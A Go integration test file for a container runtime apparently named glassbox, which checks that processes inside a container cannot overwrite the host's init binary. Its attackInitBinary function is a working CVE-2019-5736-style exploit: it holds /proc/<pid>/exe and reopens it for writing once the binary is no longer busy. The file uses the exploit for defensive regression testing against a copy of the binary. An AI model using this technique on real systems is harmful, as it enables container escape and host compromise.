package integration

// Attacks on glassbox from inside its own containers, with what a container
// gets by default. Each test fails on a glassbox without the protection it
// names.

import (
	"crypto/sha256"
	"debug/elf"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
)

// roles are programs the test binary also is: started inside a container
// (bind-mounted there) with GLASSBOX_TEST_ROLE naming one, it plays that part
// instead of running tests.
var roles = map[string]func() int{
	"attack-init-binary": attackInitBinary,
}

// attackInitBinary is CVE-2019-5736 from inside a container. exec and debug
// start the host's glassbox-init in the container's pid namespace; the
// attacker opens /proc/<pid>/exe of each new process and keeps the
// descriptor if it is a file of the host's (not the container's busybox),
// and once that process has execve'd away — the file is no longer busy —
// reopens the descriptor for writing and appends to the host's binary.
// It reports what it did, a line at a time, on stdout.
func attackInitBinary() int {
	self := os.Getpid()
	busybox, err := os.Stat("/bin/busybox")
	if err != nil {
		fmt.Println(err)
		return 1
	}
	done := map[int]bool{}
	refused := map[int]error{}
	fmt.Println("ready")
	for {
		entries, _ := os.ReadDir("/proc")
		for _, e := range entries {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == self || done[pid] {
				continue
			}
			exe, err := os.Open(fmt.Sprintf("/proc/%d/exe", pid))
			if err != nil {
				if errors.Is(err, os.ErrNotExist) && refused[pid] != nil {
					done[pid] = true // gone before it ever let us in
					fmt.Printf("pid %d: opening its exe was refused until it ended: %v\n", pid, refused[pid])
				} else if !errors.Is(err, os.ErrNotExist) {
					refused[pid] = err // a privileged or non-dumpable process: try again
				}
				continue
			}
			done[pid] = true
			if fi, err := exe.Stat(); err != nil || os.SameFile(fi, busybox) {
				if refused[pid] != nil {
					fmt.Printf("pid %d: opening its exe was refused until it ran busybox: %v\n", pid, refused[pid])
				}
				exe.Close()
				continue
			}
			fmt.Printf("pid %d: holding its exe, a host binary\n", pid)
			reopen := fmt.Sprintf("/proc/self/fd/%d", exe.Fd())
			for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(time.Millisecond) {
				w, err := os.OpenFile(reopen, os.O_WRONLY|os.O_APPEND, 0)
				if errors.Is(err, syscall.ETXTBSY) && time.Now().Before(deadline) {
					continue // still running it
				}
				if err != nil {
					fmt.Printf("pid %d: reopening its exe for writing was refused: %v\n", pid, err)
				} else {
					w.Write([]byte("written from inside a container\n"))
					w.Close()
					fmt.Printf("pid %d: WROTE the host's binary\n", pid)
				}
				break
			}
			exe.Close()
		}
	}
}

// withBinaryUnderAttack runs the rest of the test with a copy of glassbox
// (and glassbox-init and glassbox-shim beside it) in a directory of its own,
// so that an attack that succeeds damages only the copy; it returns the
// copy's glassbox-init, whose hash the test compares.
func withBinaryUnderAttack(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	for _, name := range []string{"glassbox", "glassbox-init", "glassbox-shim"} {
		src, err := os.Open(filepath.Join(filepath.Dir(glassbox), name))
		if err != nil {
			t.Fatal(err)
		}
		dst, err := os.OpenFile(filepath.Join(dir, name), os.O_WRONLY|os.O_CREATE, 0o755)
		if err == nil {
			_, err = io.Copy(dst, src)
			dst.Close()
		}
		src.Close()
		if err != nil {
			t.Fatal(err)
		}
	}
	original := glassbox
	glassbox = filepath.Join(dir, "glassbox")
	t.Cleanup(func() { glassbox = original })
	return filepath.Join(dir, "glassbox-init")
}

// attacker is the test binary, bind-mounted into a container as /attacker.
func attacker(t *testing.T) string {
	t.Helper()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	f, err := elf.Open(self)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, p := range f.Progs {
		if p.Type == elf.PT_INTERP {
			t.Fatal("the test binary is dynamically linked and cannot run in a busybox container: build it with CGO_ENABLED=0 (make test does)")
		}
	}
	return self
}

func fileHash(t *testing.T, path string) string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return fmt.Sprintf("%x", sha256.Sum256(data))
}

// checkAttack waits for the attacker's report of every exec'd process and
// asserts that it never wrote, and that the host's binary is unchanged.
func checkAttack(t *testing.T, logs func() string, execs int, initBinary, hashBefore string) {
	t.Helper()
	var out string
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		if out = logs(); strings.Count(out, "\npid ") >= execs {
			break
		}
	}
	if strings.Contains(out, "WROTE") || fileHash(t, initBinary) != hashBefore {
		t.Errorf("a container overwrote the host's glassbox-init (sha256 %s, was %s):\n%s", fileHash(t, initBinary), hashBefore, out)
	} else if strings.Contains(out, "holding its exe") {
		// The init is non-dumpable: without CAP_SYS_PTRACE, its exe cannot
		// be opened at all (the read-only mount stopped the write).
		t.Errorf("a container opened the exe of the host's glassbox-init:\n%s", out)
	}
	if strings.Count(out, "\npid ") < execs {
		t.Errorf("the attacker reported on fewer processes than the %d execs:\n%s", execs, out)
	}
	t.Logf("the attacker saw %d processes of the host's: its exe could not be opened for %d, it held %d and could not write %d",
		strings.Count(out, "\npid "), strings.Count(out, "was refused until"), strings.Count(out, "holding its exe"), strings.Count(out, "for writing was refused"))
}

// exec starts the host's glassbox-init inside the container; the container's
// root tries to keep its binary open and write to it once it is not busy.
func TestInitBinaryCannotBeOverwrittenThroughExec(t *testing.T) {
	e := newEnv(t)
	initBinary := withBinaryUnderAttack(t)
	e.importBusybox()
	before := fileHash(t, initBinary)
	e.runDetached([]string{"--name", "victim", "-v", attacker(t) + ":/attacker:ro", "-e", "GLASSBOX_TEST_ROLE=attack-init-binary"}, "busybox", "/attacker")
	defer e.run("", "rm", "-f", "victim")
	logs := func() string { return e.run("", "logs", "victim").stdout }
	for deadline := time.Now().Add(5 * time.Second); !strings.HasPrefix(logs(), "ready") && time.Now().Before(deadline); {
		time.Sleep(20 * time.Millisecond)
	}
	const execs = 20
	for range execs {
		if r := e.run("", "exec", "victim", "true"); r.code != 0 {
			t.Fatalf("exec: exit %d %s", r.code, r.stderr)
		}
	}
	checkAttack(t, logs, execs, initBinary, before)
}

// The same through glassbox-runc exec, as podman exec or crictl exec do it.
func TestInitBinaryCannotBeOverwrittenThroughOCIExec(t *testing.T) {
	e := newEnv(t)
	beSubreaper(t)
	initBinary := withBinaryUnderAttack(t)
	before := fileHash(t, initBinary)
	bundle := ociBundle(t, func(s map[string]any) {
		p := s["process"].(map[string]any)
		p["args"] = []string{"/attacker"}
		p["env"] = []string{"PATH=/bin", "GLASSBOX_TEST_ROLE=attack-init-binary"}
		s["mounts"] = append(s["mounts"].([]any), map[string]any{
			"destination": "/attacker", "type": "bind", "source": attacker(t), "options": []string{"bind", "ro"},
		})
	})
	logFile := filepath.Join(t.TempDir(), "attacker.log")
	log, err := os.Create(logFile)
	if err != nil {
		t.Fatal(err)
	}
	defer log.Close()
	cmd := exec.Command(glassbox, "oci", "--root", e.root, "run", "--detach", "--bundle", bundle, "victim")
	cmd.Stdout, cmd.Stderr = log, log
	if err := cmd.Run(); err != nil {
		t.Fatalf("run --detach: %v", err)
	}
	defer e.oci("delete", "--force", "victim")
	logs := func() string { data, _ := os.ReadFile(logFile); return string(data) }
	for deadline := time.Now().Add(5 * time.Second); !strings.HasPrefix(logs(), "ready") && time.Now().Before(deadline); {
		time.Sleep(20 * time.Millisecond)
	}
	const execs = 20
	for range execs {
		if r := e.oci("exec", "victim", "true"); r.code != 0 {
			t.Fatalf("exec: exit %d %s", r.code, r.stderr)
		}
	}
	checkAttack(t, logs, execs, initBinary, before)
}

// The init is executed through a read-only mount of its file: even a process
// allowed to open /proc/<pid>/exe (the host's root here; a container with
// CAP_SYS_PTRACE, such as a --privileged one) cannot write through it, also
// once the init has execve'd away.
func TestInitBinaryIsExecutedReadOnly(t *testing.T) {
	e := newEnv(t)
	initBinary := withBinaryUnderAttack(t)
	e.importBusybox()
	before := fileHash(t, initBinary)
	id := e.runDetached([]string{"--break-at", "exec"}, "busybox", "true")
	defer e.run("", "rm", "-f", id)
	exe, err := os.Open(fmt.Sprintf("/proc/%d/exe", e.record(id).Pid))
	if err != nil {
		t.Fatal(err)
	}
	defer exe.Close()
	if fi, err := exe.Stat(); err != nil || !os.SameFile(fi, mustStat(t, initBinary)) {
		t.Fatalf("the paused init's exe is not %s: %v", initBinary, err)
	}
	if r := e.run("", "continue", id); r.code != 0 {
		t.Fatalf("continue: exit %d %s", r.code, r.stderr)
	}
	e.run("", "wait", id)
	w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", exe.Fd()), os.O_WRONLY|os.O_APPEND, 0)
	if err == nil {
		w.Close()
	}
	if !errors.Is(err, syscall.EROFS) {
		t.Errorf("reopening the init's exe for writing after it ran: %v, want EROFS", err)
	}
	if fileHash(t, initBinary) != before {
		t.Errorf("%s changed", initBinary)
	}
}

func mustStat(t *testing.T, path string) os.FileInfo {
	t.Helper()
	fi, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	return fi
}
